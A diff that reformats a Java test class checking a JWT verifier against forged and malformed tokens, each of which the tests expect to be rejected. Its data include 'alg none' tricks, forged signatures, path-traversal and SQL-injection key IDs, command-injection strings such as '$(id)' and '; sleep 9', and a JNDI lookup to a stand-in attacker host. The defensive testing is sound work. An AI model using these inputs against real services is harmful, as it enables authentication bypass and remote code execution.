@@ -107,20 +107,39 @@ class TokenAttackTest {
     static Stream<Attack> algorithms() {
         List<Attack> attacks = new ArrayList<>();
         for (String algorithm : List.of(
-                "none", "None", "NONE", "nOnE", "", "hs256", "HS256 ", "HS384", "HS512", "ES256", "RS256", "PS256",
-                "EdDSA", "dir", "PBES2-HS256+A128KW")) {
+                "none",
+                "None",
+                "NONE",
+                "nOnE",
+                "",
+                "hs256",
+                "HS256 ",
+                "HS384",
+                "HS512",
+                "ES256",
+                "RS256",
+                "PS256",
+                "EdDSA",
+                "dir",
+                "PBES2-HS256+A128KW")) {
             String header = header(HS, "\"" + algorithm + "\"", "\"JWT\"", "\"" + HS.kid() + "\"");
-            attacks.add(attack("alg \"" + algorithm + "\" over a genuine signature",
-                    signed(HS, header, NO_CLAIMS), "its alg is not the one of its key"));
-            attacks.add(attack("alg \"" + algorithm + "\" without a signature",
-                    encode(header) + "." + encode(NO_CLAIMS) + ".", "its signature is empty"));
+            attacks.add(attack(
+                    "alg \"" + algorithm + "\" over a genuine signature",
+                    signed(HS, header, NO_CLAIMS),
+                    "its alg is not the one of its key"));
+            attacks.add(attack(
+                    "alg \"" + algorithm + "\" without a signature",
+                    encode(header) + "." + encode(NO_CLAIMS) + ".",
+                    "its signature is empty"));
         }
         for (String notText : List.of("null", "256", "true", "[\"HS256\"]", "{\"HS256\":1}")) {
-            attacks.add(attack("alg " + notText,
+            attacks.add(attack(
+                    "alg " + notText,
                     signed(HS, header(HS, notText, "\"JWT\"", "\"" + HS.kid() + "\""), NO_CLAIMS),
                     "its alg is not a text"));
         }
-        attacks.add(attack("no alg",
+        attacks.add(attack(
+                "no alg",
                 signed(HS, "{\"typ\":\"JWT\",\"kid\":\"" + HS.kid() + "\"}", NO_CLAIMS),
                 "its header is not exactly alg, typ and kid"));
         return attacks.stream();
@@ -172,7 +191,8 @@ class TokenAttackTest {
         return attacks.stream();
     }
 
-    // A key of the attacker's own, brought along (CVE-2018-0114) or to be fetched (SSRF), and members that change meaning.
+    // A key of the attacker's own, brought along (CVE-2018-0114) or to be fetched (SSRF), and members that change
+    // meaning.
     static Stream<Attack> foreignKeysInTheHeader() {
         SigningKey own = new NewKeys().make(ACCESS, ES256, KeyState.SIGNING, KeysForTests.NOON);
         String ownJwk = Json.write(own.material().publicMembers());
@@ -209,8 +229,10 @@ class TokenAttackTest {
                 "\"epk\":{}",
                 "\"ALG\":\"none\"",
                 "\"x\":1")) {
-            attacks.add(attack("header with " + member,
-                    signed(HS, headerWith(HS, member), NO_CLAIMS), "its header is not exactly alg, typ and kid"));
+            attacks.add(attack(
+                    "header with " + member,
+                    signed(HS, headerWith(HS, member), NO_CLAIMS),
+                    "its header is not exactly alg, typ and kid"));
         }
         return attacks.stream();
     }
@@ -225,34 +247,54 @@ class TokenAttackTest {
                 "null", utf8("null"),
                 "the kid", utf8(HS.kid()),
                 "the issuer", utf8("latchkey"));
-        secrets.forEach((name, secret) -> attacks.add(attack("HMAC secret: " + name,
-                macced(secret, header(HS), NO_CLAIMS), "its signature is not genuine")));
+        secrets.forEach((name, secret) -> attacks.add(
+                attack("HMAC secret: " + name, macced(secret, header(HS), NO_CLAIMS), "its signature is not genuine")));
         for (int length : List.of(1, 16, 31, 32, 33, 64)) {
-            attacks.add(attack("a signature of " + length + " zeros",
-                    withSignature(TWIN, new byte[length]), "its signature is not genuine"));
+            attacks.add(attack(
+                    "a signature of " + length + " zeros",
+                    withSignature(TWIN, new byte[length]),
+                    "its signature is not genuine"));
         }
         attacks.add(attack("null signature", withSignature(TWIN, new byte[0]), "its signature is empty"));
         attacks.add(attack("no third part", TWIN.substring(0, TWIN.lastIndexOf('.')), "three parts"));
         byte[] genuine = TokenForge.signatureOf(TWIN);
-        attacks.add(attack("a signature cut short",
-                withSignature(TWIN, Arrays.copyOf(genuine, 31)), "its signature is not genuine"));
-        attacks.add(attack("a signature with one byte more",
-                withSignature(TWIN, Arrays.copyOf(genuine, 33)), "its signature is not genuine"));
-        attacks.add(attack("the signature of another payload",
-                withSignature(signed(HS, header(HS), payload("\"x\":1")), genuine), "its signature is not genuine"));
-        attacks.add(attack("another header over the signature",
-                encode(header(HS, "\"HS256\" ", "\"JWT\"", "\"" + HS.kid() + "\""))
-                        + TWIN.substring(TWIN.indexOf('.')),
+        attacks.add(attack(
+                "a signature cut short",
+                withSignature(TWIN, Arrays.copyOf(genuine, 31)),
+                "its signature is not genuine"));
+        attacks.add(attack(
+                "a signature with one byte more",
+                withSignature(TWIN, Arrays.copyOf(genuine, 33)),
+                "its signature is not genuine"));
+        attacks.add(attack(
+                "the signature of another payload",
+                withSignature(signed(HS, header(HS), payload("\"x\":1")), genuine),
+                "its signature is not genuine"));
+        attacks.add(attack(
+                "another header over the signature",
+                encode(header(HS, "\"HS256\" ", "\"JWT\"", "\"" + HS.kid() + "\"")) + TWIN.substring(TWIN.indexOf('.')),
                 "its signature is not genuine"));
         byte[] rsa = TokenForge.signatureOf(RS_TWIN);
-        attacks.add(new Attack("an RSA signature of zeros", ACCESS, RS_TWIN,
-                withSignature(RS_TWIN, new byte[rsa.length]), "its signature is not genuine"));
+        attacks.add(new Attack(
+                "an RSA signature of zeros",
+                ACCESS,
+                RS_TWIN,
+                withSignature(RS_TWIN, new byte[rsa.length]),
+                "its signature is not genuine"));
         byte[] one = new byte[rsa.length];
         one[rsa.length - 1] = 1;
-        attacks.add(new Attack("an RSA signature of one", ACCESS, RS_TWIN,
-                withSignature(RS_TWIN, one), "its signature is not genuine"));
-        attacks.add(new Attack("an RSA signature with a leading zero", ACCESS, RS_TWIN,
-                withSignature(RS_TWIN, concat(new byte[1], rsa)), "its signature is not genuine"));
+        attacks.add(new Attack(
+                "an RSA signature of one",
+                ACCESS,
+                RS_TWIN,
+                withSignature(RS_TWIN, one),
+                "its signature is not genuine"));
+        attacks.add(new Attack(
+                "an RSA signature with a leading zero",
+                ACCESS,
+                RS_TWIN,
+                withSignature(RS_TWIN, concat(new byte[1], rsa)),
+                "its signature is not genuine"));
         return attacks.stream();
     }
 
@@ -260,39 +302,59 @@ class TokenAttackTest {
     static Stream<Attack> keyNames() {
         List<Attack> attacks = new ArrayList<>();
         for (String kid : List.of(
-                "../../../../../../dev/null", "/dev/null", "file:///dev/null", "x' UNION SELECT 'k' -- ", "' OR 1=1 --",
-                "$(id)", "`id`", "|id", "; sleep 9", "https://attacker.example/k", "k\\u0000", "k\\n", "k\\u202e", "",
-                " ", "*", "a.b", "${jndi:ldap://attacker.example}", "x".repeat(65))) {
-            attacks.add(attack("kid " + kid,
+                "../../../../../../dev/null",
+                "/dev/null",
+                "file:///dev/null",
+                "x' UNION SELECT 'k' -- ",
+                "' OR 1=1 --",
+                "$(id)",
+                "`id`",
+                "|id",
+                "; sleep 9",
+                "https://attacker.example/k",
+                "k\\u0000",
+                "k\\n",
+                "k\\u202e",
+                "",
+                " ",
+                "*",
+                "a.b",
+                "${jndi:ldap://attacker.example}",
+                "x".repeat(65))) {
+            attacks.add(attack(
+                    "kid " + kid,
                     signed(HS, header(HS, "\"HS256\"", "\"JWT\"", "\"" + kid + "\""), NO_CLAIMS),
                     "its kid is not one of a key"));
         }
         for (String kid : List.of("null", "0", "true", "[]", "{}", "[\"" + HS.kid() + "\"]")) {
-            attacks.add(attack("kid " + kid,
-                    signed(HS, header(HS, "\"HS256\"", "\"JWT\"", kid), NO_CLAIMS), "its kid is not a text"));
+            attacks.add(attack(
+                    "kid " + kid,
+                    signed(HS, header(HS, "\"HS256\"", "\"JWT\"", kid), NO_CLAIMS),
+                    "its kid is not a text"));
         }
-        attacks.add(attack("no kid",
+        attacks.add(attack(
+                "no kid",
                 signed(HS, "{\"alg\":\"HS256\",\"typ\":\"JWT\"}", NO_CLAIMS),
                 "its header is not exactly alg, typ and kid"));
-        attacks.add(attack("an invented kid",
+        attacks.add(attack(
+                "an invented kid",
                 signed(HS, header(HS, "\"HS256\"", "\"JWT\"", "\"" + "A".repeat(43) + "\""), NO_CLAIMS),
                 "no key has its kid"));
-        attacks.add(attack("our kid in other letters",
+        attacks.add(attack(
+                "our kid in other letters",
                 signed(HS, header(HS, "\"HS256\"", "\"JWT\"", "\"" + otherCase(HS.kid()) + "\""), NO_CLAIMS),
                 "no key has its kid"));
         return attacks.stream();
     }
 
-    // Signatures that a careless verifier takes for every message (CVE-2022-21449), and other encodings of a genuine one.
+    // Signatures that a careless verifier takes for every message (CVE-2022-21449), and other encodings of a genuine
+    // one.
     static Stream<Attack> ellipticSignatures() throws GeneralSecurityException {
         List<Attack> attacks = new ArrayList<>();
         Map<String, BigInteger> numbers = Map.of(
-                "0", BigInteger.ZERO,
-                "1", BigInteger.ONE,
-                "n-1", P256_ORDER.subtract(BigInteger.ONE),
-                "n", P256_ORDER);
-        numbers.forEach((rName, r) -> numbers.forEach((sName, s) -> attacks.add(elliptic(
-                "ECDSA r = " + rName + ", s = " + sName, concat(fixed(r), fixed(s))))));
+                "0", BigInteger.ZERO, "1", BigInteger.ONE, "n-1", P256_ORDER.subtract(BigInteger.ONE), "n", P256_ORDER);
+        numbers.forEach((rName, r) -> numbers.forEach((sName, s) ->
+                attacks.add(elliptic("ECDSA r = " + rName + ", s = " + sName, concat(fixed(r), fixed(s))))));
         byte[] genuine = TokenForge.signatureOf(ES_TWIN);
         byte[] r = Arrays.copyOfRange(genuine, 0, 32);
         byte[] s = Arrays.copyOfRange(genuine, 32, 64);
@@ -319,7 +381,8 @@ class TokenAttackTest {
                 + parts[2] + "\"}";
         return Stream.of(
                 attack("flattened JSON serialisation", flattened, "three parts"),
-                attack("general JSON serialisation",
+                attack(
+                        "general JSON serialisation",
                         "{\"payload\":\"" + parts[1] + "\",\"signatures\":[{\"protected\":\"" + parts[0]
                                 + "\",\"signature\":\"" + parts[2] + "\"}]}",
                         "three parts"),
@@ -335,8 +398,10 @@ class TokenAttackTest {
                 attack("two dots alone", "..", "its header is empty"),
                 attack("the scheme before the token", "Bearer " + TWIN, "its header is not base64url"),
                 attack("two tokens", TWIN + "," + TWIN, "three parts"),
-                attack("header and payload changed places",
-                        signedParts(HS, parts[1], parts[0]), "its header is not exactly alg, typ and kid"),
+                attack(
+                        "header and payload changed places",
+                        signedParts(HS, parts[1], parts[0]),
+                        "its header is not exactly alg, typ and kid"),
                 attack("a token as the payload", signed(HS, header(HS), "\"" + TWIN + "\""), "its payload is not"),
                 attack("payload is a list", signed(HS, header(HS), "[]"), "its payload is not a JSON object"),
                 attack("payload is null", signed(HS, header(HS), "null"), "its payload is not a JSON object"),
@@ -357,19 +422,29 @@ class TokenAttackTest {
         int levels = 32;
         String deepest = signed(HS, header(HS), nested(levels));
         return Stream.of(
-                new Attack("one character too long", ACCESS, longest, ofLength(UnverifiedToken.MAX_LENGTH + 1), "longer"),
+                new Attack(
+                        "one character too long", ACCESS, longest, ofLength(UnverifiedToken.MAX_LENGTH + 1), "longer"),
                 new Attack("a megabyte", ACCESS, longest, ofLength(1_000_000), "longer"),
                 attack("ten thousand dots", ".".repeat(10_000), "longer"),
                 attack("a megabyte of dots", ".".repeat(1_000_000), "longer"),
                 attack("as many dots as fit", ".".repeat(UnverifiedToken.MAX_LENGTH), "three parts"),
                 attack("dots after a token", TWIN + ".".repeat(1000), "three parts"),
-                new Attack("one level too deep", ACCESS, deepest, signed(HS, header(HS), nested(levels + 1)),
+                new Attack(
+                        "one level too deep",
+                        ACCESS,
+                        deepest,
+                        signed(HS, header(HS), nested(levels + 1)),
                         "its payload is not JSON"),
-                attack("thousands of objects inside each other",
-                        signed(HS, header(HS), "{\"a\":".repeat(900)), "its payload is not JSON"),
-                attack("thousands of lists inside each other",
-                        signed(HS, header(HS), "{\"a\":" + "[".repeat(5000)), "its payload is not JSON"),
-                attack("a deep header",
+                attack(
+                        "thousands of objects inside each other",
+                        signed(HS, header(HS), "{\"a\":".repeat(900)),
+                        "its payload is not JSON"),
+                attack(
+                        "thousands of lists inside each other",
+                        signed(HS, header(HS), "{\"a\":" + "[".repeat(5000)),
+                        "its payload is not JSON"),
+                attack(
+                        "a deep header",
                         signed(HS, headerWith(HS, "\"x\":" + "[".repeat(100) + "]".repeat(100)), NO_CLAIMS),
                         "its header is not JSON"));
     }
@@ -379,30 +454,60 @@ class TokenAttackTest {
         String pair = signed(HS, header(HS), payload("\"name\":\"\\ud83d\\ude00\""));
         List<Attack> attacks = new ArrayList<>(List.of(
                 attack("one claim twice", signed(HS, header(HS), payload("\"jti\":\"t2\"")), "its payload is not JSON"),
-                attack("one claim twice, spelled with an escape",
-                        signed(HS, header(HS), payload("\"\\u006ati\":\"t2\"")), "its payload is not JSON"),
-                attack("one claim twice, deep inside",
+                attack(
+                        "one claim twice, spelled with an escape",
+                        signed(HS, header(HS), payload("\"\\u006ati\":\"t2\"")),
+                        "its payload is not JSON"),
+                attack(
+                        "one claim twice, deep inside",
                         signed(HS, header(HS), payload("\"data\":{\"a\":[{\"isAdmin\":false,\"isAdmin\":true}]}")),
                         "its payload is not JSON"),
-                attack("alg twice",
-                        signed(HS, headerWith(HS, "\"alg\":\"none\""), NO_CLAIMS), "its header is not JSON"),
-                attack("kid twice",
+                attack(
+                        "alg twice",
+                        signed(HS, headerWith(HS, "\"alg\":\"none\""), NO_CLAIMS),
+                        "its header is not JSON"),
+                attack(
+                        "kid twice",
                         signed(HS, headerWith(HS, "\"kid\":\"" + ES.kid() + "\""), NO_CLAIMS),
                         "its header is not JSON"),
-                new Attack("half a character", ACCESS, pair,
-                        signed(HS, header(HS), payload("\"name\":\"\\ud83d\"")), "unpaired surrogate"),
-                new Attack("the other half", ACCESS, pair,
-                        signed(HS, header(HS), payload("\"name\":\"\\ude00\"")), "unpaired surrogate"),
-                new Attack("halves changed places", ACCESS, pair,
-                        signed(HS, header(HS), payload("\"name\":\"\\ude00\\ud83d\"")), "unpaired surrogate"),
-                new Attack("half a character in a claim's name", ACCESS, pair,
-                        signed(HS, header(HS), payload("\"\\ud83d\":1")), "unpaired surrogate"),
-                new Attack("half a character deep inside", ACCESS, pair,
-                        signed(HS, header(HS), payload("\"data\":{\"a\":[{\"b\":\"\\udfff\"}]}")), "unpaired surrogate"),
-                attack("a raw control character", signed(HS, header(HS), payload("\"name\":\"\u0001\"")),
+                new Attack(
+                        "half a character",
+                        ACCESS,
+                        pair,
+                        signed(HS, header(HS), payload("\"name\":\"\\ud83d\"")),
+                        "unpaired surrogate"),
+                new Attack(
+                        "the other half",
+                        ACCESS,
+                        pair,
+                        signed(HS, header(HS), payload("\"name\":\"\\ude00\"")),
+                        "unpaired surrogate"),
+                new Attack(
+                        "halves changed places",
+                        ACCESS,
+                        pair,
+                        signed(HS, header(HS), payload("\"name\":\"\\ude00\\ud83d\"")),
+                        "unpaired surrogate"),
+                new Attack(
+                        "half a character in a claim's name",
+                        ACCESS,
+                        pair,
+                        signed(HS, header(HS), payload("\"\\ud83d\":1")),
+                        "unpaired surrogate"),
+                new Attack(
+                        "half a character deep inside",
+                        ACCESS,
+                        pair,
+                        signed(HS, header(HS), payload("\"data\":{\"a\":[{\"b\":\"\\udfff\"}]}")),
+                        "unpaired surrogate"),
+                attack(
+                        "a raw control character",
+                        signed(HS, header(HS), payload("\"name\":\"\u0001\"")),
                         "its payload is not JSON"),
                 attack("a byte order mark", signed(HS, header(HS), "\ufeff" + NO_CLAIMS), "its payload is not JSON"),
-                attack("a byte order mark in the header", signed(HS, "\ufeff" + header(HS), NO_CLAIMS),
+                attack(
+                        "a byte order mark in the header",
+                        signed(HS, "\ufeff" + header(HS), NO_CLAIMS),
                         "its header is not JSON")));
         Map<String, byte[]> notUtf8 = Map.of(
                 "a lone continuation byte", bytes(0x80),
@@ -413,13 +518,18 @@ class TokenAttackTest {
                 "a character cut short", bytes(0xe2, 0x82),
                 "a byte that is never UTF-8", bytes(0xff),
                 "Latin-1", "ä".getBytes(StandardCharsets.ISO_8859_1));
-        notUtf8.forEach((name, wrong) -> attacks.add(attack(name,
+        notUtf8.forEach((name, wrong) -> attacks.add(attack(
+                name,
                 signed(HS, header(HS), concat(concat(utf8("{\"name\":\""), wrong), utf8("\"}"))),
                 "its payload is not UTF-8")));
-        attacks.add(attack("UTF-16",
-                signed(HS, header(HS), NO_CLAIMS.getBytes(StandardCharsets.UTF_16)), "its payload is not UTF-8"));
-        attacks.add(attack("UTF-16 without a mark",
-                signed(HS, header(HS), NO_CLAIMS.getBytes(StandardCharsets.UTF_16BE)), "its payload is not JSON"));
+        attacks.add(attack(
+                "UTF-16",
+                signed(HS, header(HS), NO_CLAIMS.getBytes(StandardCharsets.UTF_16)),
+                "its payload is not UTF-8"));
+        attacks.add(attack(
+                "UTF-16 without a mark",
+                signed(HS, header(HS), NO_CLAIMS.getBytes(StandardCharsets.UTF_16BE)),
+                "its payload is not JSON"));
         return attacks.stream();
     }
 
@@ -429,21 +539,57 @@ class TokenAttackTest {
         for (String time : List.of("exp", "nbf", "iat")) {
             String twin = signed(HS, header(HS), payload("\"" + time + "\":1767268800"));
             for (String value : List.of(
-                    "\"1767268800\"", "\"\"", "\"never\"", "null", "true", "[]", "[1767268800]", "{}", "1.5", "1.0", "1e3",
-                    "-1", "-0.0", "-9223372036854775808", "9007199254740993", "9223372036854775807",
-                    "9223372036854775808", "99999999999999999999999999")) {
-                attacks.add(new Attack(time + " is " + value, ACCESS, twin,
+                    "\"1767268800\"",
+                    "\"\"",
+                    "\"never\"",
+                    "null",
+                    "true",
+                    "[]",
+                    "[1767268800]",
+                    "{}",
+                    "1.5",
+                    "1.0",
+                    "1e3",
+                    "-1",
+                    "-0.0",
+                    "-9223372036854775808",
+                    "9007199254740993",
+                    "9223372036854775807",
+                    "9223372036854775808",
+                    "99999999999999999999999999")) {
+                attacks.add(new Attack(
+                        time + " is " + value,
+                        ACCESS,
+                        twin,
                         signed(HS, header(HS), payload("\"" + time + "\":" + value)),
                         "its " + time + " is not a whole number of seconds"));
             }
-            for (String value : List.of("1e400", "-1e400", "1e2147483648", "NaN", "Infinity", "-Infinity", "01", "+1",
-                    "0x10", "1_000", ".5", "5.", "1".repeat(1000))) {
-                attacks.add(new Attack(time + " is " + (value.length() > 20 ? "1000 digits" : value), ACCESS, twin,
-                        signed(HS, header(HS), payload("\"" + time + "\":" + value)), "its payload"));
+            for (String value : List.of(
+                    "1e400",
+                    "-1e400",
+                    "1e2147483648",
+                    "NaN",
+                    "Infinity",
+                    "-Infinity",
+                    "01",
+                    "+1",
+                    "0x10",
+                    "1_000",
+                    ".5",
+                    "5.",
+                    "1".repeat(1000))) {
+                attacks.add(new Attack(
+                        time + " is " + (value.length() > 20 ? "1000 digits" : value),
+                        ACCESS,
+                        twin,
+                        signed(HS, header(HS), payload("\"" + time + "\":" + value)),
+                        "its payload"));
             }
         }
-        attacks.add(attack("a number out of range elsewhere",
-                signed(HS, header(HS), payload("\"data\":{\"x\":[1e400]}")), "out of range"));
+        attacks.add(attack(
+                "a number out of range elsewhere",
+                signed(HS, header(HS), payload("\"data\":{\"x\":[1e400]}")),
+                "out of range"));
         return attacks.stream();
     }
 
@@ -456,27 +602,43 @@ class TokenAttackTest {
                 if (held != wanted) {
                     SigningKey key = keys.get(held);
                     String twin = signed(keys.get(wanted), header(keys.get(wanted)), NO_CLAIMS);
-                    attacks.add(new Attack(held + " token presented as " + wanted, wanted, twin,
-                            signed(key, header(key), NO_CLAIMS), "its typ is not the one of this kind of token"));
-                    attacks.add(new Attack(held + " key with the typ of " + wanted, wanted, twin,
-                            signed(key,
-                                    header(key, "\"" + key.algorithm() + "\"", "\"" + wanted.type() + "\"",
+                    attacks.add(new Attack(
+                            held + " token presented as " + wanted,
+                            wanted,
+                            twin,
+                            signed(key, header(key), NO_CLAIMS),
+                            "its typ is not the one of this kind of token"));
+                    attacks.add(new Attack(
+                            held + " key with the typ of " + wanted,
+                            wanted,
+                            twin,
+                            signed(
+                                    key,
+                                    header(
+                                            key,
+                                            "\"" + key.algorithm() + "\"",
+                                            "\"" + wanted.type() + "\"",
                                             "\"" + key.kid() + "\""),
                                     NO_CLAIMS),
                             "its key is for another kind of token"));
                 }
             }
         }
-        for (String type : List.of("jwt", "Jwt", "application/jwt", "at+jwt", "JOSE", "", " JWT", "session+jwt\\u0000")) {
-            attacks.add(attack("typ \"" + type + "\"",
+        for (String type :
+                List.of("jwt", "Jwt", "application/jwt", "at+jwt", "JOSE", "", " JWT", "session+jwt\\u0000")) {
+            attacks.add(attack(
+                    "typ \"" + type + "\"",
                     signed(HS, header(HS, "\"HS256\"", "\"" + type + "\"", "\"" + HS.kid() + "\""), NO_CLAIMS),
                     "its typ is not the one of this kind of token"));
         }
-        attacks.add(attack("no typ",
+        attacks.add(attack(
+                "no typ",
                 signed(HS, "{\"alg\":\"HS256\",\"kid\":\"" + HS.kid() + "\"}", NO_CLAIMS),
                 "its header is not exactly alg, typ and kid"));
-        attacks.add(attack("typ null",
-                signed(HS, header(HS, "\"HS256\"", "null", "\"" + HS.kid() + "\""), NO_CLAIMS), "its typ is not a text"));
+        attacks.add(attack(
+                "typ null",
+                signed(HS, header(HS, "\"HS256\"", "null", "\"" + HS.kid() + "\""), NO_CLAIMS),
+                "its typ is not a text"));
         return attacks.stream();
     }
 
@@ -485,18 +647,26 @@ class TokenAttackTest {
         byte[] secret = utf8("a LiveKit secret, or another one of 32 bytes");
         return Stream.of(
                 attack("an API key", "lk_" + "A".repeat(43), "three parts"),
-                attack("a LiveKit token",
-                        macced(secret, "{\"alg\":\"HS256\"}",
+                attack(
+                        "a LiveKit token",
+                        macced(
+                                secret,
+                                "{\"alg\":\"HS256\"}",
                                 "{\"iss\":\"APIkey\",\"sub\":\"u\",\"video\":{\"roomJoin\":true,\"room\":\"r\"}}"),
                         "its header is not exactly alg, typ and kid"),
-                attack("a 100ms management token",
-                        macced(secret, "{\"alg\":\"HS256\",\"typ\":\"JWT\"}",
+                attack(
+                        "a 100ms management token",
+                        macced(
+                                secret,
+                                "{\"alg\":\"HS256\",\"typ\":\"JWT\"}",
                                 "{\"access_key\":\"k\",\"type\":\"management\",\"version\":2,\"jti\":\"x\"}"),
                         "its header is not exactly alg, typ and kid"),
-                attack("a JaaS token",
+                attack(
+                        "a JaaS token",
                         signed(RS, header(RS, "\"RS256\"", "\"JWT\"", "\"vpaas-magic-cookie-1/2\""), NO_CLAIMS),
                         "its kid is not one of a key"),
-                attack("a webhook's JWT",
+                attack(
+                        "a webhook's JWT",
                         macced(secret, header(HS), "{\"iss\":\"k\",\"exp\":1767268800,\"sha256\":\"AAAA\"}"),
                         "its signature is not genuine"));
     }
@@ -533,8 +703,9 @@ class TokenAttackTest {
 
     private static String otherCase(String text) {
         StringBuilder other = new StringBuilder();
-        text.chars().forEach(c -> other.append(
-                (char) (Character.isUpperCase(c) ? Character.toLowerCase(c) : Character.toUpperCase(c))));
+        text.chars()
+                .forEach(c -> other.append(
+                        (char) (Character.isUpperCase(c) ? Character.toLowerCase(c) : Character.toUpperCase(c))));
         return other.toString();
     }
 
@@ -554,8 +725,7 @@ class TokenAttackTest {
     private static byte[] der(byte[] r, byte[] s) {
         byte[] first = new BigInteger(1, r).toByteArray();
         byte[] second = new BigInteger(1, s).toByteArray();
-        byte[] body = concat(
-                concat(bytes(2, first.length), first), concat(bytes(2, second.length), second));
+        byte[] body = concat(concat(bytes(2, first.length), first), concat(bytes(2, second.length), second));
         return concat(bytes(0x30, body.length), body);
     }
 
